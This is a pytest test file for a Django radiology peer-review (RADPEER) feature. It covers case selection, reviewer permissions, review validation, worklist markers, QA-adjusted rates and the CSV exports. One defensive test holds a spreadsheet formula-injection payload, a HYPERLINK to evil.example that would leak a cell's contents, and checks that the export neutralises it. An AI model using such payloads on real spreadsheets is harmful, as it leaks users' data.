"""Issue 23 item 1: RADPEER peer review end to end (selection, queue, review, worklist marker, QA-adjusted
rates and the reviewed-cases export), with its refusals.

Six reports are signed through the report services (sample rate 0, so only 2b/3a/3b are selected), three
are reviewed by the qa_reviewer; every expected figure is worked out by hand in the comments.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.test import Client

from backend.audit.models import AuditEvent
from backend.inference.models import InferenceJob, InferenceResult, ModelVersion
from backend.qa import selection
from backend.qa.models import QACase
from backend.reports import versions
from backend.reports.models import Report
from backend.studies.models import Study

pytestmark = [pytest.mark.django_db]

UID = "1.2.826.0.1.3680043.10.999.90{}"
# (draft, final or None, score at sign-off, comment, reader, model)
CASES = [
    ("FINDINGS: disc bulge.", None, "1", "", "r1", "mv1"),
    ("FINDINGS: L4-L5 herniation.", "FINDINGS: no herniation.", "2b", "called a herniation that is not there", "r1",
     "mv1"),
    ("FINDINGS: normal.", "FINDINGS: L5-S1 stenosis.", "3a", "missed stenosis", "r1", "mv2"),
    ("FINDINGS: normal.", None, "1", "", "r2", "mv2"),
    ("FINDINGS: no fracture.", "FINDINGS: L1 fracture.", "3b", "missed fracture", "r2", "mv2"),
    ("FINDINGS: mild stenosis.", "FINDINGS: moderate stenosis.", "2a", "", "r2", "mv1"),
]
# Hand-computed 95% Wilson intervals, (k + z²/2 ± z·sqrt(k(n-k)/n + z²/4)) / (n + z²), z = 1.95996.
W13, W23, W03 = (0.061492, 0.79234), (0.20766, 0.938508), (0.0, 0.561497)


@pytest.fixture
def models(db):
    return {"mv1": ModelVersion.objects.create(name="phantom-nano", version="0.3", path="builtin:a"),
            "mv2": ModelVersion.objects.create(name="phantom-nano", version="0.4", path="builtin:b")}


@pytest.fixture
def sign(readers, models, settings, django_capture_on_commit_callbacks):
    settings.SPINEAGENT_QA_SAMPLE_RATE = 0.0

    def make(n, draft, final, score, comment, reader, model) -> Report:
        study = Study.objects.create(study_instance_uid=UID.format(n), patient_id=f"Q{n}", patient_name="QA^CASE",
                                     body_part="LSPINE", study_description="MRI L-SPINE")
        job = InferenceJob.objects.create(study=study, model_version=models[model], status="succeeded")
        result = InferenceResult.objects.create(job=job, study=study, model_version=models[model],
                                                data={"draft_text": draft, "draft_backend": "template"})
        user = readers[reader]
        with django_capture_on_commit_callbacks(execute=True):  # report_signed receivers, as after a commit
            versions.add_ai_draft(result)
            versions.mark_opened(study, user)
            number = versions.save_version(study, user, final, 0).number if final else 0
            versions.sign(study, user, number, score, comment)
        return Report.objects.get(study=study)

    return make


@pytest.fixture
def six(sign):
    return [sign(n, *case) for n, case in enumerate(CASES)]


def case_of(report: Report) -> QACase:
    return QACase.objects.get(report=report)


def review(client, case: QACase, **body):
    base = client.get(f"/api/qa/cases/{case.pk}").json().get("report_version")
    return client.post(f"/api/qa/cases/{case.pk}/review", {"report_version": base, **body}, format="json")


@pytest.fixture
def reviewed(six, client_for):
    """Case 1 (2b) changed to 1, case 2 (3a) changed to 3b, case 4 (3b) agreed."""
    qa = client_for("qa_reviewer")
    changed = review(qa, case_of(six[1]), decision="change", score="1", reason="no herniation on the images")
    assert changed.status_code == 200
    assert review(qa, case_of(six[2]), decision="change", score="3b",
                  reason="canal stenosis with cord compression: likely clinically significant").status_code == 200
    assert review(qa, case_of(six[4]), decision="agree").status_code == 200
    return six


# ---- selection ------------------------------------------------------------------------------------------------------

def test_discrepant_scores_open_cases_at_sign_off_and_the_rest_at_rate_zero_do_not(six):
    cases = {c.report_id: c for c in QACase.objects.all()}
    assert sorted(cases) == sorted(r.pk for r in (six[1], six[2], six[4]))
    c = cases[six[2].pk]
    assert (c.selection, c.original_score, c.original_comment, c.reader_id, c.status, c.signed_number) == (
        "discrepant", "3a", "missed stenosis", six[2].signed_by_id, "open", six[2].signed_number)


def test_random_sample_is_a_fixed_draw_per_study(sign, settings):
    settings.SPINEAGENT_QA_SAMPLE_RATE = 1.0  # everything sampled
    report = sign(7, "FINDINGS: normal.", None, "1", "", "r1", "mv1")
    assert case_of(report).selection == "sampled"
    uids = [f"1.2.3.{i}" for i in range(4000)]
    draws = [selection.draw(u) for u in uids]
    assert draws == [selection.draw(u) for u in uids]  # the same study is always in or out
    assert all(0 <= d < 1 for d in draws)
    share = sum(d < 0.05 for d in draws) / len(draws)
    assert 0.04 < share < 0.06, share  # a fixed set, so a fixed share: near the rate
    # the rate and the draw are injectable: a draw below the rate selects, one at it does not
    report.qa_case.delete()
    assert selection.select(report.pk, rate=0.3, drawn=lambda uid: 0.3) is None
    assert selection.select(report.pk, rate=0.3, drawn=lambda uid: 0.29).selection == "sampled"
    assert selection.select(report.pk, rate=0.0).pk == case_of(report).pk  # idempotent: the case stays


# ---- who may review -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("role", ["radiologist", "annotator", None])
def test_other_roles_cannot_see_or_review(six, client_for, role):
    client, case = client_for(role), case_of(six[4])
    assert client.get("/api/qa/cases").status_code in (401, 403)
    assert client.get(f"/api/qa/cases/{case.pk}").status_code in (401, 403)
    response = client.post(f"/api/qa/cases/{case.pk}/review", {"decision": "agree", "report_version": 1},
                           format="json")
    assert response.status_code in (401, 403)
    assert case_of(six[4]).status == "open"


def test_queue_and_case_show_what_the_reviewer_judges(six, client_for):
    qa = client_for("qa_reviewer")
    rows = qa.get("/api/qa/cases").json()["results"]
    assert [r["original_score"] for r in rows] == ["2b", "3a", "3b"]
    body = qa.get(f"/api/qa/cases/{rows[2]['id']}").json()
    assert body["ai_draft"]["text"] == "FINDINGS: no fracture."
    assert body["ai_draft"]["model_version"] == "phantom-nano:0.4"
    assert body["final"] == {"number": 1, "text": "FINDINGS: L1 fracture."}
    assert (body["original_score"], body["original_comment"], body["report_version"]) == ("3b", "missed fracture", 1)
    assert body["viewer_url"] == "/viewer/spineagent?StudyInstanceUIDs=" + UID.format(4)
    assert "reader" not in body and body["review"] is None  # blind: the reviewer is not told who read it
    assert AuditEvent.objects.filter(action="view", target_type="qa-case", target_id=str(rows[2]["id"])).exists()


def test_a_reader_cannot_review_their_own_case(six, readers, client_for):
    r1 = readers["r1"]
    r1.groups.add(Group.objects.get(name="qa_reviewer"))  # a radiologist who also peer-reviews
    client, own, other = client_for("radiologist"), case_of(six[1]), case_of(six[4])
    assert [r["id"] for r in client.get("/api/qa/cases").json()["results"]] == [other.pk]  # own reads not listed
    assert client.get(f"/api/qa/cases/{own.pk}").json()["error"] == "own_case"
    response = client.post(f"/api/qa/cases/{own.pk}/review", {"decision": "agree", "report_version": 1},
                           format="json")
    assert response.status_code == 403 and response.json()["error"] == "own_case"
    own.refresh_from_db()
    assert (own.status, own.reviewer_id, own.reviewed_score) == ("open", None, "")
    refused = AuditEvent.objects.filter(action="refused", target_type="qa-review").first() or \
        AuditEvent.objects.filter(action="refused", target_id__contains=f"/qa/cases/{own.pk}").first()
    assert refused is not None and refused.username == r1.username
    # someone else's read: theirs to review
    assert client.post(f"/api/qa/cases/{other.pk}/review", {"decision": "agree", "report_version": 1},
                       format="json").status_code == 200


# ---- the review and its refusals ------------------------------------------------------------------------------------

def test_review_is_recorded_and_audited(six, client_for, users):
    case = case_of(six[1])
    response = review(client_for("qa_reviewer"), case, decision="change", score="1", reason="no herniation")
    assert response.status_code == 200
    assert response.json()["review"]["reviewed_score"] == "1"
    case.refresh_from_db()
    assert (case.status, case.decision, case.reviewed_score, case.review_reason, case.reviewer_id,
            case.reviewed_report_version) == ("reviewed", "change", "1", "no herniation", users["qa_reviewer"].pk, 1)
    event = AuditEvent.objects.get(action="edit", target_type="qa-review")
    assert event.username == "qa_reviewer" and event.target_id == UID.format(1)
    assert {k: event.detail[k] for k in ("qa_case", "decision", "original_score", "reviewed_score", "reason")} == {
        "qa_case": case.pk, "decision": "change", "original_score": "2b", "reviewed_score": "1",
        "reason": "no herniation"}
    assert Report.objects.get(pk=six[1].pk).radpeer_score == "2b"  # the signed report itself never changes


def test_duplicate_and_conflicting_reviews_are_409(six, client_for, users):
    case = case_of(six[4])
    first = client_for("qa_reviewer")
    assert review(first, case, decision="agree").status_code == 200
    again = review(first, case, decision="agree")
    assert again.status_code == 409 and again.json()["error"] == "already_reviewed"
    conflicting = review(client_for("admin"), case, decision="change", score="2a", reason="minor")
    assert conflicting.status_code == 409 and conflicting.json()["reviewed_score"] == "3b"
    case.refresh_from_db()
    assert (case.decision, case.reviewed_score, case.reviewer_id) == ("agree", "3b", users["qa_reviewer"].pk)
    assert AuditEvent.objects.filter(action="edit", target_type="qa-review").count() == 1
    assert AuditEvent.objects.filter(action="refused", target_type="qa-review",
                                     detail__code="already_reviewed").count() == 2


def test_review_of_a_report_that_changed_meanwhile_is_stale(six, client_for, readers):
    case, qa = case_of(six[2]), client_for("qa_reviewer")
    seen = qa.get(f"/api/qa/cases/{case.pk}").json()["report_version"]
    versions.add_addendum(six[2].study, readers["r1"], "ADDENDUM: the stenosis is severe.")
    response = qa.post(f"/api/qa/cases/{case.pk}/review", {"decision": "agree", "report_version": seen},
                       format="json")
    assert response.status_code == 409 and response.json()["error"] == "stale"
    assert response.json()["report_version"] == seen + 1
    assert case_of(six[2]).status == "open"
    body = qa.get(f"/api/qa/cases/{case.pk}").json()  # reloaded: the addendum is shown, the review goes through
    assert body["addenda"][0]["text"] == "ADDENDUM: the stenosis is severe."
    assert review(qa, case, decision="agree").status_code == 200


@pytest.mark.parametrize("body,field", [
    ({"decision": "change", "score": "1"}, "reason"),  # a changed score needs a reason
    ({"decision": "change", "score": "3a", "reason": "same"}, "score"),  # no change: agree instead
    ({"decision": "change", "score": "4", "reason": "x"}, "score"),  # not a RADPEER score
    ({"decision": "change", "reason": "x"}, "score"),  # changing needs a score
    ({"decision": "agree", "score": "2b"}, "score"),  # agreeing keeps the original score
    ({"decision": "maybe"}, "decision"),
    ({"decision": "agree", "report_version": "one"}, "report_version"),
    ({"decision": "change", "score": "3b", "reason": "   "}, "reason"),  # 3b needs a written reason
])
def test_invalid_reviews_are_400_and_write_nothing(six, client_for, body, field):
    case, qa = case_of(six[2]), client_for("qa_reviewer")
    response = qa.post(f"/api/qa/cases/{case.pk}/review", {"report_version": 1, **body}, format="json")
    assert response.status_code == 400, response.json()
    assert field in str(response.json())
    assert case_of(six[2]).status == "open"
    assert not AuditEvent.objects.filter(action="edit", target_type="qa-review").exists()


def test_malformed_body_and_unknown_case(six, client_for):
    qa = client_for("qa_reviewer")
    case = case_of(six[2])
    assert qa.post(f"/api/qa/cases/{case.pk}/review", [1, 2], format="json").status_code == 400
    response = qa.post("/api/qa/cases/999999/review", {"decision": "agree", "report_version": 1}, format="json")
    assert response.status_code == 404
    assert qa.get("/api/qa/cases?status=closed").status_code == 400


# ---- the reader is told, in the worklist ----------------------------------------------------------------------------

def test_worklist_shows_the_review_to_its_reader_only(reviewed, client_for, readers):
    def markers(client):
        return {r["study_instance_uid"]: r["qa_review"] for r in client.get("/api/worklist").json()["results"]}

    r1 = markers(client_for("radiologist"))
    assert r1[UID.format(1)] == "QA reviewed: changed to 1"
    assert r1[UID.format(2)] == "QA reviewed: changed to 3b"
    assert r1[UID.format(4)] is None  # r2's case: not r1's business
    assert r1[UID.format(0)] is None  # not reviewed
    r2 = Client()
    r2.force_login(readers["r2"])
    assert markers(r2)[UID.format(4)] == "QA reviewed: agreed"
    assert markers(client_for("qa_reviewer"))[UID.format(1)] == "QA reviewed: changed to 1"
    assert set(markers(client_for("annotator")).values()) == {None}


# ---- QA-adjusted rates, through the API and the exports -------------------------------------------------------------

def _group(body, label):
    return next(g for g in body["groups"] if g["label"] == label)


def _close(rate: dict, k: int, n: int, ci: tuple[float, float]):
    assert rate["k"] == k and rate["rate"] == pytest.approx(k / n)
    assert (rate["ci_low"], rate["ci_high"]) == (pytest.approx(ci[0], abs=1e-6), pytest.approx(ci[1], abs=1e-6))


def test_rates_per_reader_use_reviewed_scores(reviewed, client_for, readers):
    admin = client_for("admin")
    body = admin.get("/api/analytics/radpeer?group_by=reader").json()
    r1 = _group(body, f"reader {readers['r1'].pk}")
    # r1 signed 1, 2b, 3a; reviewed: 2b -> 1, 3a -> 3b. QA-adjusted: 1, 1, 3b.
    assert r1["counts"] == {"1": 2, "2a": 0, "2b": 0, "3a": 0, "3b": 1}
    _close(r1["discrepancy"], 1, 3, W13)  # was 2/3 at sign-off
    _close(r1["significant"], 1, 3, W13)  # 3b; was 1/3 (the 2b)
    assert (r1["reviewed"], r1["changed"]) == (2, 2)
    r2 = _group(body, f"reader {readers['r2'].pk}")
    # r2 signed 1, 3b, 2a; 3b agreed: unchanged.
    assert r2["counts"] == {"1": 1, "2a": 1, "2b": 0, "3a": 0, "3b": 1}
    _close(r2["discrepancy"], 2, 3, W23)
    _close(r2["significant"], 1, 3, W13)
    assert (r2["reviewed"], r2["changed"]) == (1, 0)


def test_rates_per_model_use_reviewed_scores_in_api_and_csv(reviewed, client_for, models):
    admin = client_for("admin")
    body = admin.get("/api/analytics/radpeer?group_by=model_version").json()
    mv1, mv2 = _group(body, "phantom-nano:0.3"), _group(body, "phantom-nano:0.4")
    # mv1: cases 0 (1), 1 (2b -> 1), 5 (2a): 1, 1, 2a. mv2: cases 2 (3a -> 3b), 3 (1), 4 (3b agreed): 3b, 1, 3b.
    _close(mv1["discrepancy"], 1, 3, W13)
    _close(mv1["significant"], 0, 3, W03)
    _close(mv2["discrepancy"], 2, 3, W23)
    _close(mv2["significant"], 2, 3, W23)
    response = admin.get("/api/analytics/export.csv?table=radpeer&group_by=model_version")
    rows = {r["label"]: r for r in csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))}
    assert (rows["phantom-nano:0.3"]["significant_k"], rows["phantom-nano:0.3"]["discrepancy_k"]) == ("0", "1")
    assert float(rows["phantom-nano:0.4"]["significant_ci_low"]) == pytest.approx(W23[0], abs=1e-6)
    assert float(rows["phantom-nano:0.4"]["significant_ci_high"]) == pytest.approx(W23[1], abs=1e-6)
    assert (rows["phantom-nano:0.4"]["qa_reviewed"], rows["phantom-nano:0.4"]["qa_changed"]) == ("2", "1")


def test_export_lists_reviewed_cases(reviewed, client_for, readers, users):
    admin = client_for("admin")
    response = admin.get("/api/analytics/export.csv?table=qa_reviews")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(r["study_id"], r["original_score"], r["reviewed_score"], r["decision"], r["changed"]) for r in rows] == [
        (str(reviewed[1].study_id), "2b", "1", "change", "1"),
        (str(reviewed[2].study_id), "3a", "3b", "change", "1"),
        (str(reviewed[4].study_id), "3b", "3b", "agree", "0")]
    assert rows[0]["reader_id"] == str(readers["r1"].pk) and rows[0]["reviewer_id"] == str(users["qa_reviewer"].pk)
    assert rows[0]["reason"] == "no herniation on the images" and rows[0]["model_version"] == "phantom-nano:0.3"
    assert rows[0]["reviewed_at"] and rows[0]["signed_at"] and rows[0]["selected_at"]
    assert "patient" not in ",".join(rows[0])  # ids only
    filtered = admin.get(f"/api/analytics/export.csv?table=qa_reviews&reader={readers['r2'].pk}")
    assert len(list(csv.DictReader(io.StringIO(b"".join(filtered.streaming_content).decode())))) == 1
    event = AuditEvent.objects.filter(action="export", target_type="analytics").first()  # newest first
    assert event.detail["tables"] == {"qa_reviews": 1}
    assert client_for("qa_reviewer").get("/api/analytics/export.csv?table=qa_reviews").status_code == 403


def test_unreviewed_cases_keep_the_sign_off_score(six, client_for):
    body = client_for("admin").get("/api/analytics/radpeer").json()
    (all_,) = body["groups"]
    # 1, 2b, 3a, 1, 3b, 2a: discrepancy 4/6, significant 2/6, nothing reviewed yet
    assert (all_["discrepancy"]["k"], all_["significant"]["k"], all_["reviewed"]) == (4, 2, 0)


# ---- the reviewer's pages -------------------------------------------------------------------------------------------

def test_pages_refuse_other_roles(six, client_for):
    case = case_of(six[4])
    assert Client().get("/qa/").status_code == 302  # to the login page
    for role in ("radiologist", "annotator"):
        assert client_for(role).get("/qa/").status_code == 403
        assert client_for(role).get(f"/qa/cases/{case.pk}").status_code == 403
    nav = client_for("qa_reviewer").get("/qa/").content.decode()
    assert 'data-page="qa"' in nav and 'data-page="qa"' not in client_for("radiologist").get("/").content.decode()


def test_review_through_the_page_with_csrf(six, users):
    case = case_of(six[2])
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(users["qa_reviewer"])
    queue = browser.get("/qa/").content.decode()
    assert f'data-case="{case.pk}"' in queue and "Nothing to review" not in queue
    page = browser.get(f"/qa/cases/{case.pk}")
    html = page.content.decode()
    assert "FINDINGS: normal." in html and "FINDINGS: L5-S1 stenosis." in html and "missed stenosis" in html
    assert 'id="open-images"' in html and 'name="report_version" value="1"' in html
    assert browser.post(f"/qa/cases/{case.pk}", {"decision": "agree", "report_version": "1"}).status_code == 403
    token = browser.cookies["csrftoken"].value
    bad = browser.post(f"/qa/cases/{case.pk}", {"decision": "change", "score": "3b", "reason": "",
                                                "report_version": "1", "csrfmiddlewaretoken": token})
    assert bad.status_code == 400 and "reason" in bad.content.decode()
    assert case_of(six[2]).status == "open"
    done = browser.post(f"/qa/cases/{case.pk}", {"decision": "change", "score": "3b", "reason": "cord compression",
                                                 "report_version": "1", "csrfmiddlewaretoken": token})
    assert done.status_code == 302
    after = browser.get(done["Location"]).content.decode()
    assert "Changed to 3b" in after and 'id="review-form"' not in after
    queue = browser.get("/qa/").content.decode()
    reviewed_part = queue[queue.index('id="qa-reviewed"'):]
    assert f'data-case="{case.pk}"' in reviewed_part and "<td>change</td><td>3b</td>" in reviewed_part
    assert f'data-case="{case.pk}"' not in queue[:queue.index('id="qa-reviewed"')]  # no longer open
    again = browser.post(f"/qa/cases/{case.pk}", {"decision": "agree", "report_version": "1",
                                                  "csrfmiddlewaretoken": token})
    assert again.status_code == 409


def test_own_case_page_is_refused_and_audited(six, readers):
    r1 = readers["r1"]
    r1.groups.add(Group.objects.get(name="qa_reviewer"))
    browser = Client()
    browser.force_login(r1)
    case = case_of(six[1])
    response = browser.get(f"/qa/cases/{case.pk}")
    assert response.status_code == 403 and "someone else" in response.content.decode()
    assert f'data-case="{case.pk}"' not in browser.get("/qa/").content.decode()
    assert AuditEvent.objects.filter(action="refused", target_type="qa-review", target_id=str(case.pk),
                                     username=r1.username).exists()


def test_export_defuses_a_hostile_reason(six, client_for):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert review(client_for("qa_reviewer"), case_of(six[2]), decision="change", score="3b",
                  reason=hostile).status_code == 200
    response = client_for("admin").get("/api/analytics/export.csv?table=qa_reviews")
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["reason"] == "'" + hostile  # a spreadsheet shows it, never runs it


def test_select_qa_cases_backfills_with_the_current_rate(six, settings):
    from django.core.management import call_command

    out = io.StringIO()
    call_command("select_qa_cases", stdout=out)
    assert out.getvalue().strip() == "opened 0 QA case(s)"  # the three discrepant ones exist; rate 0
    settings.SPINEAGENT_QA_SAMPLE_RATE = 1.0
    call_command("select_qa_cases", stdout=out)
    assert "opened 3 QA case(s)" in out.getvalue()  # 1, 1 and 2a now sampled
    assert sorted(QACase.objects.filter(selection="sampled").values_list("original_score", flat=True)) == [
        "1", "1", "2a"]
